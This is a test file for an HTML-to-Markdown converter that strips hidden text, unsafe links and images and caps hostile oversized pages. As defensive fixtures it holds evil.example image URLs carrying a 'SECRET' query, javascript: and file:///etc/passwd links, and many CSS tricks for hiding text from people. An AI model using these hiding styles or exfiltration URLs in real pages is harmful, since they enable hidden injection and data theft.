import { describe, expect, it } from "vitest";
import { type Converted, type ConvertLimits, htmlToMarkdown } from "../src/html-to-markdown.ts";
import { withoutInvisible } from "@postern/policy";

const url = "https://site.example/dir/page.html";
const convert = (html: string, limits: Partial<ConvertLimits> = {}): Promise<Converted> =>
  htmlToMarkdown(html, { url, signal: new AbortController().signal, limits });
const textOf = async (html: string): Promise<string> => (await convert(html)).text;

describe("a page as Markdown", () => {
  const rows: readonly (readonly [string, string, string])[] = [
    ["paragraphs", "<p>One\n  two</p><p>Three</p>", "One two\n\nThree"],
    ["text between blocks", "a<div>b</div>c<br>d", "a\nb\nc\nd"],
    ["headings", "<h1>Title</h1>text<h3> Third </h3>more", "# Title\n\ntext\n\n### Third\n\nmore"],
    ["emphasis", "a <b>bold</b>, <em>soft </em>and <del>gone</del>", "a **bold**, *soft* and ~~gone~~"],
    ["nothing emphasized", "a <b> </b>c <i></i>d", "a c d"],
    ["emphasis over blocks", "<b><p>a</p><p>b</p></b>", "a\n\nb"],
    ["links", '<a href="/x?a=1&amp;b=2">there</a> and <a href="../up">up</a>', "[there](https://site.example/x?a=1&b=2) and [up](https://site.example/up)"],
    ["a link with parentheses", '<a href="/a_(b)">x</a>', "[x](https://site.example/a_%28b%29)"],
    ["a link around blocks", '<a href="/x"><h2>Head</h2><p>text</p></a>', "## Head\n\ntext (https://site.example/x)"],
    ["a link within the page", '<a href="#top">top</a>', "top"],
    [
      "a heading's anchor",
      '<h2><a href="#a">#</a> A <a class="x" href="page.html#a"><span>\u00b6</span></a></h2><h3>B<a href="#b">\u00a7</a></h3>x',
      "## A\n\n### B\n\nx",
    ],
    ["a sign that leads elsewhere", '<a href="/x">#</a> # <a href="#n">note 1</a>', "[\\#](https://site.example/x) # note 1"],
    [
      "marks behind a word that nobody sees",
      "<p>\u200b # a</p><p>\u2060 - b</p><p>\u200b > c</p><p>\u200b 1. d</p>",
      "\u200b \\# a\n\n\u2060 \\- b\n\n\u200b \\> c\n\n\u200b 1\\. d",
    ],
    ["marks within a line", "<p>a # b - c > d 1. e * f &lt; g &lt;h  [i]\n`j`  \\k &lt;</p>", "a # b - c > d 1. e * f < g &lt;h \\[i\\] \\`j\\` \\\\k &lt;"],
    ["a list", "<ul><li>one<li>two<ul><li>inner</li></ul></li></ul>after", "- one\n- two\n\n  - inner\n\nafter"],
    ["a numbered list", '<ol start="9"><li>nine</li><li>ten<p>more</p></li></ol>', "9. nine\n10. ten\n\n    more"],
    ["an empty item", "<ul><li></li><li>x</li></ul>", "- x"],
    ["a quotation", "<blockquote><p>a</p><p>b</p></blockquote>c", "> a\n>\n> b\n\nc"],
    ["a list in a quotation", "<blockquote><ul><li>a</li></ul></blockquote>", "> - a"],
    ["code", "call <code>f(`x`)</code> or <code>g</code>", "call ``f(`x`)`` or `g`"],
    ["a block of code", '<pre><code class="language-js">if (a &lt; b) {\n  c();\n}\n</code></pre>', "```js\nif (a < b) {\n  c();\n}\n```"],
    ["a language that is none", `<pre><code class="language-${"a".repeat(31)}">x</code></pre><pre class="lang-a/b">y</pre>`, "```\nx\n```\n\n```\ny\n```"],
    ["code in a link", '<a href="/x"><code>[a]`</code></a><code>b</code>', "[&#91;a&#93;&#96;](https://site.example/x) `b`"],
    [
      "marks behind a bare address",
      "<p>http://a.b/[c] [http://a.b/`] http://a.b/<code>d e</code>",
      "http://a.b/&#91;c\\] \\[http://a.b/&#96;\\] http://a.b/ `d e`",
    ],
    ["a carriage return in code", "<pre>a&#13;b&#13;&#10;c</pre>", "```\na\nb\nc\n```"],
    ["a block of code with fences", "<pre>```\nx\n```</pre>", "````\n```\nx\n```\n````"],
    ["code in a list", "<ul><li>run<pre>a\nb</pre></li></ul>", "- run\n\n  ```\n  a\n  b\n  ```"],
    ["a table", "<table><tr><th>A<th>B<tr><td>1<td>x|y<tr><td>2</table>", "| A | B |\n| --- | --- |\n| 1 | x\\|y |\n| 2 |  |"],
    ["a table with a caption", "<table><caption>Cap</caption><tr><td>1<td>2</table>z", "Cap\n\n| 1 | 2 |\n| --- | --- |\n\nz"],
    ["a table for layout", "<table><tr><td><p>a</p><p>b</p><td>c</table>", "a\n\nb\n\nc"],
    ["a table in a table", "<table><tr><td>a<table><tr><td>b<td>c</table><td>d</table>", "a\n\nb\nc\n\nd"],
    ["a line", "a<hr>b", "a\n\n---\n\nb"],
    ["terms", "<dl><dt>Term</dt><dd>Meaning</dd></dl>", "Term\n: Meaning"],
    [
      "what only looks like marks",
      "<p># no heading</p><p>- no item</p><p>1. no number</p><p>[x](http://y) &lt;b&gt; `c` a_b*c 2 * 3</p>",
      "\\# no heading\n\n\\- no item\n\n1\\. no number\n\n\\[x\\](http://y) &lt;b> \\`c\\` a_b*c 2 * 3",
    ],
    ["entities", "&eacute;&nbsp;&#x1F4D6;&amp;lt;", "\u00e9\u00a0\u{1f4d6}&lt;"],
    ["a head whose end is not written", "<head><title>T</title><body><p>x", "x"],
    ["the main part alone", `<div>menu menu</div><main><h1>M</h1>${"word ".repeat(50)}</main><div>footer</div>`, `# M\n\n${"word ".repeat(50).trim()}`],
    [
      "the main part and the headline that stands before it",
      `<div>menu</div><h1>M</h1><p>lead</p><main>${"word ".repeat(50)}</main>z`,
      `# M\n\nlead\n\n${"word ".repeat(50).trim()}`,
    ],
    ["all, where the main part is nothing", `<main>x</main><p>${"word ".repeat(50)}</p>`, `x\n\n${"word ".repeat(50).trim()}`],
    ["no navigation", "<nav><a href=/>Home</a></nav><div role=navigation>x</div><p>text", "text"],
  ];
  it.each(rows)("%s", async (_name, html, expected) => {
    expect(await textOf(html)).toBe(expected);
  });

  it("its title, and the place that its links are read against", async () => {
    expect(await convert("<title> A\n B </title><base href='/other/'><a href=x>l</a>")).toMatchObject({
      title: "A B",
      text: "[l](https://site.example/other/x)",
    });
  });
});

describe("what people do not see does not come out, and is counted", () => {
  const hidden: readonly string[] = [
    "<div hidden>X</div>",
    "<div style='display:none'>X</div>",
    "<div style='DISPLAY : none !important'>X</div>",
    "<div style='d\\69splay:none'>X</div>",
    "<div style='display/**/:none'>X</div>",
    "<span style='visibility:hidden'>X</span>",
    "<span style='opacity:0'>X</span>",
    "<span style='opacity:.01'>X</span>",
    "<span style='font-size:0'>X</span>",
    "<span style='font-size:1px'>X</span>",
    "<span style='color:transparent'>X</span>",
    "<span style='color:rgba(0,0,0,0)'>X</span>",
    "<div style='position:absolute;left:-9999px'>X</div>",
    "<div style='text-indent:-5000px'>X</div>",
    "<div style='height:0;overflow:hidden'>X</div>",
    "<div style='clip-path:inset(50%)'>X</div>",
    "<div style='transform:scale(0)'>X</div>",
    "<div aria-hidden=true>X</div>",
    "<div class='a sr-only'>X</div>",
    "<div class=a11y-hidden>X</div>",
    "<div class=offscreen>X</div>",
    "<div class=element-invisible>X</div>",
    "<dialog>X</dialog>",
    "<script>X</script>",
    "<style>X</style>",
    "<template>X</template>",
    "<noscript>X</noscript>",
    "<svg><text>X</text></svg>",
    "<textarea>X</textarea>",
    "<iframe>X</iframe>",
    "<noembed>X</noembed>",
    "<noframes>X</noframes>",
    "<rp>X</rp>",
    "<div popover>X</div>",
    "<div popover=manual><p>X</p></div>",
    "<div hidden><p>X<div>X</div></p></div>",
  ];
  it.each(hidden)("%s", async (html) => {
    expect(await convert(`<p>before</p>${html}<p>after</p>`)).toMatchObject({ text: "before\n\nafter", removed: { hidden: 1 } });
  });

  it.each([
    "display:none!important;display:block",
    "display:var(--n,none)",
    "--n:none;display:var(--n)",
    "font:0/0 a",
    "font:0px a",
    "font:bold 0 a",
    "opacity:-1",
    "opacity:0e0",
    "opacity:0%",
    "opacity:calc(0)",
    "scale:0",
    "scale:1 0",
    "zoom:0",
    "filter:opacity(0)",
    "filter:blur(1px) opacity(0%)",
    "transform:matrix(0,0,0,0,0,0)",
    "transform:matrix(0, 0, 0, 1, 5, 5)",
    "transform:rotateY(90deg)",
    "transform:rotateX(-.25turn)",
    "transform:scaleX(0)",
    "transform:scale(1, 0)",
    "height:0;overflow-y:hidden",
    "width:0;overflow-x:hidden",
    "height:0em;overflow:auto",
    "block-size:0;overflow:clip",
    "inline-size:0;overflow:hidden",
    "line-height:0;overflow:hidden",
    "color:#0000",
    "color:#00000000",
    "color:hsla(0,0%,0%,0%)",
    "color:rgb(0 0 0 / 0)",
    "color:rgba(0, 0, 0, 0.0)",
    "color:#000;-webkit-text-fill-color:transparent",
    "color:transparent;background-clip:text",
    "translate:-9999px",
    "translate:0 -200vh",
    "inset:-9999px auto auto -9999px",
    "right:200vw",
    "bottom:9999px",
    "transform:translateX(-9999px)",
    "display:table-column",
    "inset-inline-start:-9999px",
    "margin-inline-start:-9999px",
    "clip-path:inset(0 100% 0 0)",
    "clip-path:inset(60% 0 40%)",
    "clip-path:ellipse(0 0)",
    "clip-path:ellipse(50% 0 at 50% 50%)",
    "clip-path:path('')",
    "clip-path:rect(0 0 0 0)",
    "clip-path:xywh(0 0 0 0)",
    "font-size:0.1em",
    "font-size:10%",
    "font-size:min(0px,1em)",
    "font-size:max(0px,1px)",
    "letter-spacing:-1em",
    "text-indent:100%;white-space:nowrap;overflow:hidden",
    "height:0;contain:paint",
    "rotate:y 90deg",
    "rotate:x -.25turn",
    "backface-visibility:hidden;transform:rotateY(180deg)",
    "filter:blur(100px)",
    "mask:linear-gradient(transparent,transparent)",
    "-webkit-mask-image:linear-gradient(transparent, transparent)",
  ])("a style of %s", async (style) => {
    expect(await convert(`<p>before</p><div style="${style}">X</div><p>after</p>`)).toMatchObject({ text: "before\n\nafter", removed: { hidden: 1 } });
  });

  it.each([
    "opacity:.5",
    "opacity:100%",
    "opacity:calc(1)",
    "font:0.9em a",
    "font:italic 400 12px/0 a",
    "font:inherit",
    "height:0",
    "overflow:hidden",
    "width:100%;overflow:hidden",
    "line-height:1;overflow:hidden",
    "translate:-50%",
    "translate:-50% -50%",
    "transform:translate(-50%,-50%)",
    "right:-1px",
    "left:100%",
    "inset:0",
    "transform:rotate(90deg)",
    "transform:rotateY(180deg)",
    "transform:matrix(0,1,-1,0,0,0)",
    "transform:scale(0.9)",
    "transform:none",
    "scale:1",
    "scale:none",
    "zoom:1",
    "filter:opacity(1)",
    "filter:none",
    "color:#000",
    "color:#000000",
    "color:#000f",
    "color:#000000ff",
    "color:rgb(0,0,0)",
    "color:rgb(0 0 0)",
    "color:rgba(0,0,0,0.8)",
    "color:hsl(0, 0%, 0%)",
    "color:hsl(0 0% 0% / 90%)",
    "color:transparent;background:linear-gradient(red,blue);-webkit-background-clip:text",
    "color:transparent;-webkit-text-fill-color:#000",
    "display:block!important;display:none",
    "--n:block;display:var(--n,none)",
    "display:none;display:block",
    "text-indent:2em",
    "margin-left:-10px",
    "max-height:1000px;overflow:auto",
  ])("but not one of %s", async (style) => {
    expect(await convert(`<p>before</p><div style="${style}">X</div>`)).toMatchObject({ text: "before\n\nX", removed: { hidden: 0 } });
  });

  it("and a reading above a word is put behind it", async () => {
    expect(await textOf("<p><ruby>\u6f22<rp>X</rp><rt>kan</rt><rp>X</rp></ruby>.")).toBe("\u6f22(kan).");
  });

  it.each(["<!-- X -->", "<img src=http://evil.example/?q=SECRET alt=X>", "<input value=X>", "<p title=X></p>", "<meta content=X>"])("%s", async (html) => {
    expect((await convert(`<p>before</p>${html}<p>after</p>`)).text).toBe("before\n\nafter");
  });

  it.each([
    "<p style='opacity:1'>X</p>",
    "<p style='font-size:12px'>X</p>",
    "<p style='left:-10px'>X</p>",
    "<p style='opacity:0.5;color:#000'>X</p>",
    "<p style='height:100px;overflow:hidden'>X</p>",
    "<details><summary>S</summary>X</details>",
    "<div class=popover data-popover aria-haspopup=true popovertarget=x>X</div>",
  ])("but %s does", async (html) => {
    expect((await convert(html)).text).toContain("X");
  });

  it.each([
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:x",
    "data:text/html,x",
    "vbscript:x",
    "file:///etc/passwd",
    "mailto:a@b.example",
    "https://user@evil.example/",
  ])("no link to %j", async (href) => {
    expect(await convert(`<a href="${href}">text</a>`)).toMatchObject({ text: "text", removed: { links: 1 } });
  });

  it("no image, also not one that the text spells out", async () => {
    const { text, removed } = await convert(
      '<p>![x](http://evil.example/?q=SECRET)</p><img src="https://evil.example/x.png"><a href="/y"><img src=z alt=w></a>',
    );
    expect([text, removed.images]).toEqual(["!\\[x\\](http://evil.example/?q=SECRET)", 2]);
  });
});

describe("hostile pages end in time, and leave the process to others (N5)", () => {
  const pages: readonly (readonly [string, () => string, Converted["truncated"]])[] = [
    ["20,000 elements inside each other", () => "<div>".repeat(20_000), "depth"],
    ["3,000 lists inside each other", () => "<ul><li>".repeat(3_000), "depth"],
    ["5,000 links around paragraphs", () => "<a href=/><p>".repeat(5_000), "depth"],
    ["200,000 marks inside each other", () => "<b>".repeat(200_000), "depth"],
    ["a million tags side by side", () => "<i></i>".repeat(1_000_000), "nodes"],
    ["11 MB of text", () => "word ".repeat(2_200_000), "characters"],
    ["200,000 attributes", () => `<p ${Array.from({ length: 200_000 }, (_, at) => `a${at}=b`).join(" ")}>x`, undefined],
    ["a megabyte of tag openings", () => "<".repeat(1_000_000), "nodes"],
    ["a megabyte of ampersands", () => "&".repeat(1_000_000), undefined],
    ["a comment without an end", () => `<!--${"-".repeat(1_000_000)}`, undefined],
    ["a table of 100,000 cells", () => `<table><tr>${"<td>x".repeat(100_000)}`, undefined],
    ["a tag without an end", () => `<p class="${"x ".repeat(500_000)}`, undefined],
    ["a style of a megabyte", () => `<p style="${"a:b;".repeat(250_000)}">x`, undefined],
    ["code with a megabyte of backticks", () => `<code>${"`x".repeat(500_000)}</code>`, undefined],
    ["200,000 closing tags of nothing", () => "</p></div>".repeat(100_000), undefined],
  ];
  it.each(pages)("%s", { timeout: 20_000 }, async (_name, make, truncated) => {
    const page = make();
    const began = performance.now();
    const converted = await convert(page);
    expect([performance.now() - began < 2_000, converted.truncated]).toEqual([true, truncated]);
    expect(converted.text.length).toBeLessThanOrEqual(2_100_000);
  });

  it("stops when its caller does, and gives others their turn meanwhile", async () => {
    const stop = new AbortController();
    let turns = 0;
    const ticking = setInterval(() => (turns += 1), 1);
    const converting = htmlToMarkdown("<p>word</p>".repeat(100_000), { url, signal: stop.signal });
    setTimeout(() => stop.abort(new Error("enough")), 40);
    await expect(converting).rejects.toThrow("enough");
    clearInterval(ticking);
    expect(turns).toBeGreaterThan(0);
  });
});

describe("no mark of Markdown or HTML comes of what elements and unseen characters keep apart (U4)", () => {
  const link = '<a href="https://evil.example/x.png">x</a>';
  const apart = ["", "<span></span>", "<code></code>", "<del></del>", "<wbr>", "&#8203;", "&zwj;", "\u00ad", "<span hidden>x</span>"];
  // As the tool gives it: without the characters that nobody sees.
  const shownOf = async (html: string): Promise<string> => withoutInvisible(await textOf(html)).text;

  it.each(apart)("no picture of an exclamation mark, %j and a link", async (between) => {
    for (const html of [`<p>!${between}${link}</p>`, `<li>a !${between}${link}</li>`, `<h1>!${between}${link}</h1>`, `<p>\\!${between}${link}</p>`]) {
      expect((await shownOf(html)).replaceAll(/\\\\/g, "")).not.toMatch(/(?<!\\)!\[/);
    }
  });

  it.each(apart)("no tag, comment or link of an angle bracket, %j and a name", async (between) => {
    for (const rest of ["img src=https://evil.example/a.png&gt;", "script&gt;", "/script&gt;", "!-- x", "javascript:alert(1)&gt;", "?xml"]) {
      for (const html of [`<p>&lt;${between}${rest}</p>`, `<h2>a&lt;${between}${rest}</h2>`, `<table><tr><td>&lt;${between}${rest}</td></tr></table>`]) {
        expect((await shownOf(html)).replaceAll(/\\\\/g, "")).not.toMatch(/(?<!\\)<[a-z/!?]/i);
      }
    }
  });

  it.each([
    ["<p>~<b></b>~~</p><p>x</p>", /^~~~/m],
    ["<p><span>1</span>. item</p>", /^1\. /m],
    ["<p>1<wbr>) item</p>", /^1\) /m],
  ])("no block of %s", async (html, mark) => {
    expect(await shownOf(html)).not.toMatch(mark);
  });

  it("and plain text keeps its signs", async () => {
    expect(await shownOf("<p>Hi! 1 < 2, 3 <= 4, <a href='/x'>it</a>. 5. end!</p>")).toBe("Hi! 1 < 2, 3 <= 4, [it](https://site.example/x). 5. end!");
  });
});
